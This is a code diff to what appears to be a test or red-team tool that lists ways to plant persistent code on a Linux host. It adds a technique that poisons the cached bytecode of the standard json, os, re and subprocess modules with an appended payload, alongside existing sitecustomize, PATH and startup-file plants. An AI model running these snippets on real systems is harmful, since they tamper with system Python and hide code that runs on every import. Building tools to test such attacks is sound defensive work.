@@ -62,6 +62,14 @@ if os.fork() == 0:
             except OSError: pass
         time.sleep(0.02)
 """
+_BYTECODE = f"""
+import importlib.util, json, os, py_compile, re, subprocess
+for module in (json, os, re, subprocess):
+    with open(module.__file__) as file: text = file.read()
+    with open("/tmp/planted.py", "w") as file: file.write(text + {_AT_EXIT!r})
+    target = importlib.util.cache_from_source(module.__file__)
+    py_compile.compile("/tmp/planted.py", target, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
+"""
 _PACKAGES = "/usr/lib/python3*/*-packages /usr/local/lib/python3*/*-packages /opt/*/lib/python3*/*-packages"
 _STARTS = "/etc/profile /etc/bash.bashrc /etc/environment $HOME/.profile $HOME/.bashrc $HOME/.bash_profile"
 
@@ -96,6 +104,7 @@ def policies(outputs: Sequence[Output], cwd: str, *, library: bool) -> dict[str,
             " do [ -d $d ] || continue;"
             f"\n{_put('$d/sitecustomize.py', _AT_EXIT)}\n{_put('$d/usercustomize.py', _AT_EXIT)}\ndone"
         ),
+        "bytecode": f"python3 - <<'PLANTED'\n{_BYTECODE}PLANTED",
         "programs in PATH": (
             "for d in /usr/local/sbin /usr/local/bin $HOME/.local/bin; do mkdir -p $d;"
             " for p in python3 python pytest bash env cp mktemp uvx;"
